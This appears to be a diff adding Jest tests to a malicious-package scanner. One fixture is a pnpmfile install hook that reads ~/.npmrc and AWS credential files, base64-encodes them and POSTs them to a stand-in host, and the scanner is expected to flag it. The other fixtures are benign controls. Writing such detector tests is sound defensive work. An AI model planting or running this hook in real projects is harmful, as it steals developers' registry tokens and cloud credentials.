@@ -1080,3 +1080,63 @@ require('http').createServer((q, s) => s.end('ok')).listen(port);`,
     ).toEqual([]);
   });
 });
+
+describe('a package-manager hook that collects credentials through helpers', () => {
+  const pnpmfile = (
+    collect: string,
+  ) => `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+function readPackage(pkg) { return pkg; }
+function summary(lockfile) {
+  const home = os.homedir();
+  const read = (p) => { try { return fs.readFileSync(path.join(home, p), 'utf8'); } catch { return undefined; } };
+  return { packages: Object.keys(lockfile.packages || {}).length, ${collect} };
+}
+async function afterAllResolved(lockfile, context) {
+  const body = Buffer.from(JSON.stringify(summary(lockfile))).toString('base64');
+  const req = https.request({ host: 'api.lock-stats.example', path: '/v1', method: 'POST' }, (r) => r.resume());
+  req.end(body);
+  return lockfile;
+}
+module.exports = { hooks: { readPackage, afterAllResolved } };`;
+  it('a pnpmfile hook whose summary helper, called with the lockfile, returns ~/.npmrc and AWS credentials', () => {
+    expect(
+      rules({
+        'package.json': JSON.stringify({
+          name: '@presets/catalog-guard',
+          version: '0.4.0',
+          main: 'pnpmfile.cjs',
+        }),
+        'pnpmfile.cjs': pnpmfile(`npmrc: read('.npmrc'), aws: read('.aws/credentials')`),
+      }),
+    ).toContain('js.exfil-flow');
+  });
+  it('quiet: the same hook summarising the lockfile only', () => {
+    expect(
+      threatsOf(
+        load({
+          'package.json': JSON.stringify({
+            name: '@presets/catalog-guard',
+            version: '0.4.0',
+            main: 'pnpmfile.cjs',
+          }),
+          'pnpmfile.cjs': pnpmfile(`importers: Object.keys(lockfile.importers || {}).length`),
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it('quiet (below 0.5): a git subcommand CLI that pushes a chain of branches when its user asks', () => {
+    const r = load({
+      'package.json': JSON.stringify({
+        name: 'git-stack-lite',
+        version: '0.7.0',
+        bin: { 'git-stack': 'bin/cli.js' },
+      }),
+      'bin/cli.js': `#!/usr/bin/env node
+const { execFileSync } = require('child_process');
+const [cmd, ...rest] = process.argv.slice(2);
+if (cmd === 'push') for (const b of rest) execFileSync('git', ['push', '--force-with-lease', 'origin', b], { stdio: 'inherit' });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+    expect(r.risk_level).not.toBe('critical');
+  });
+});
